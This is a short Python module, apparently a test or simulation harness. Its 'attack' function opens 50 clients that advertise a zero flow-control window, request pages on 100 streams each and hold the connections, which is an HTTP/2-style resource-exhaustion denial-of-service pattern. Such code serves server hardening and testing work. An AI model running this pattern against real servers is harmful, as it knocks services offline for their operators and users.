"""Clients that ask for pages on 100 streams each and never open a window."""
from frames import ZERO_WINDOW, head, opened, send


def attack(node):
    held = []
    for _ in range(50):
        client = opened(node, ZERO_WINDOW)
        for stream in range(1, 200, 2):
            send(client, head(stream, "GET", "/"))
        held.append(client)
    return held
